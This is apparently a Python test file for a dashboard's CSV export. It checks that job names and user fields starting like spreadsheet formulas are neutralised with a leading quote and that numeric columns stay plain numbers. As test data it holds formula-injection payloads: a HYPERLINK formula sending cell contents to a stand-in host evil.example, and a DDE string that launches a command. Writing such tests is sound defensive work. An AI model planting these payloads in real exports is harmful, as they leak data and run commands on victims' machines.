"""CSV formula injection: hostile text is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from dashboards.export import FORMULA_START, neutralise, safe_text
from dashboards.pages.jobs import export_csv

HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"Click for details")'


def test_hostile_job_name_is_neutralised_and_numbers_stay_numeric():
    jobs = pl.DataFrame({
        "jobid": ["7", "8", "9"], "name": [HOSTILE, "+cmd|' /C calc'!A0", "@SUM(1+1)"],
        "user": ["-alice", "\tbob", "\rcarol"], "nodes": [2, -1, 3],
        "runtime": [3600, 60, -5], "cpu_eff": [0.5, None, -0.25], "mem_hwm": [1.0, 2.0, 3.0],
    })
    rows = list(csv.DictReader(export_csv(jobs)))
    assert [r["name"] for r in rows] == ["'" + HOSTILE, "'+cmd|' /C calc'!A0", "'@SUM(1+1)"]
    assert [r["user"] for r in rows] == ["'-alice", "'\tbob", "'\rcarol"]
    # numeric columns are written as plain numbers, negative ones included
    assert [r["nodes"] for r in rows] == ["2", "-1", "3"]
    assert [r["runtime_s"] for r in rows] == ["3600", "60", "-5"]
    assert [r["cpu_eff"] for r in rows] == ["0.5", "", "-0.25"]


def test_plain_text_is_left_alone():
    assert neutralise("cfd-run") == "cfd-run"
    assert neutralise("a=b") == "a=b"
    assert neutralise("") == "" and neutralise(None) is None


@given(st.lists(st.text(max_size=12), min_size=1, max_size=20))
def test_no_text_cell_starts_like_a_formula(names):
    out = safe_text(pl.DataFrame({"name": names}, schema={"name": pl.Utf8}))["name"]
    for before, after in zip(names, out, strict=True):
        assert not after.startswith(FORMULA_START)
        assert after == neutralise(before)
